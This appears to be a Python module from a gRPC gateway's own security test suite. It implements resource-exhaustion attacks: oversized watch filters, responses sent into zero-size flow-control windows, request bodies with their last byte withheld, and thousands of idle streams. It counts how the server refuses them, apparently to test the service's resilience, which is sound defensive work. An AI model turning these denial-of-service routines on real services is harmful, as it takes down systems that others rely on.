"""Attacks that let the gateway keep what nobody reads or completes."""

import asyncio
import contextlib
import time

import grpc

from liveavatar.gateway.v1 import session_service_pb2 as p
from liveavatar.gateway.v1.session_service_pb2_grpc import SessionServiceStub
from security.attacks.listed import fill
from security.attacks.raw import RawConnection, message
from security.counts import Counts

_CALLS_PER_S = 25
"""Calls of one connection; what they hold is the attack here, and connections.py has floods of them."""
_SERVICE = "/liveavatar.gateway.v1.SessionService"


async def large_filters(address: str, seconds: float) -> Counts:
    """Keep 60 watches open, each with 16 filters of 256 kB of labels."""
    labels = {f"key-{number}": "v" * 1000 for number in range(250)}
    filtered = p.WatchSessionsRequest(filter=p.WatchFilter(labels=labels))
    counts = Counts()

    async def watch(channel: grpc.aio.Channel) -> None:
        call = SessionServiceStub(channel).WatchSessions(timeout=seconds)
        with contextlib.suppress(asyncio.InvalidStateError):
            try:
                for _ in range(16):
                    await call.write(filtered)
                    counts.sent += 1
                    await asyncio.sleep(0.1)
                while await call.read() is not grpc.aio.EOF:
                    pass
            except grpc.aio.AioRpcError as error:
                counts.refused(error)

    channels = [
        grpc.aio.insecure_channel(address, options=(("grpc.use_local_subchannel_pool", 1),)) for _ in range(6)
    ]
    await asyncio.gather(*[watch(channels[number % 6]) for number in range(60)])
    for channel in channels:
        await channel.close()
    return counts


async def unread_answers(address: str, seconds: float) -> Counts:
    """Request lists of sessions with large labels, again and again, into windows that stay closed."""
    counts = Counts()
    await fill(address)
    until_s = time.monotonic() + seconds
    connections = [await RawConnection.open(address, window=0) for _ in range(10)]
    listing = message(p.ListSessionsRequest(page_size=500).SerializeToString())

    async def ask(connection: RawConnection) -> None:
        with contextlib.suppress(ConnectionError):
            for _ in range(300):
                if time.monotonic() > until_s:
                    break
                await connection.call(f"{_SERVICE}/ListSessions", listing, end=True)
                counts.sent += 1
                await asyncio.sleep(1 / _CALLS_PER_S)

    await asyncio.gather(*[ask(connection) for connection in connections])
    await asyncio.sleep(max(0.0, until_s - time.monotonic()))
    await _close(connections, counts)
    return counts


async def bodies_without_an_end(address: str, seconds: float) -> Counts:
    """Send 1500 unary requests of almost 4 MB without their last byte, as fast as the windows allow."""
    body = message(bytes(380_000), announced=4_000_000)
    return await _incomplete(address, seconds, "GetSession", body, count=1500)


async def streams_without_a_message(address: str, seconds: float) -> Counts:
    """Open 10,000 `Attach` streams and send nothing on them."""
    return await _incomplete(address, seconds, "Attach", b"", count=10_000)


async def unread_health(address: str, seconds: float) -> Counts:
    """Watch health on 200 streams into windows that stay closed."""
    counts = Counts()
    until_s = time.monotonic() + seconds
    connection = await RawConnection.open(address, window=0)
    for _ in range(200):
        await connection.call("/grpc.health.v1.Health/Watch", message(b""), end=True)
        counts.sent += 1
    await asyncio.sleep(max(0.0, until_s - time.monotonic()))
    await connection.aclose()
    return counts


async def _incomplete(address: str, seconds: float, method: str, body: bytes, *, count: int) -> Counts:
    counts = Counts()
    until_s = time.monotonic() + seconds
    connections = [await RawConnection.open(address) for _ in range(20)]

    async def fill_one(connection: RawConnection) -> None:
        async def call(number: int) -> None:
            await asyncio.sleep(number / _CALLS_PER_S)
            with contextlib.suppress(ConnectionError):
                counts.sent += 1
                await connection.body(await connection.call(f"{_SERVICE}/{method}"), body)

        await asyncio.gather(*[call(number) for number in range(count // len(connections))])

    filling = [asyncio.create_task(fill_one(connection)) for connection in connections]
    await asyncio.wait(filling, timeout=max(0.0, until_s - time.monotonic()))
    await asyncio.sleep(max(0.0, until_s - time.monotonic()))
    for task in filling:
        task.cancel()
    await asyncio.wait(filling)
    await _close(connections, counts)
    return counts


async def _close(connections: list[RawConnection], counts: Counts) -> None:
    for connection in connections:
        counts.outcomes["ended"] += connection.ended
        counts.outcomes["closed"] += connection.is_closed
        await connection.aclose()
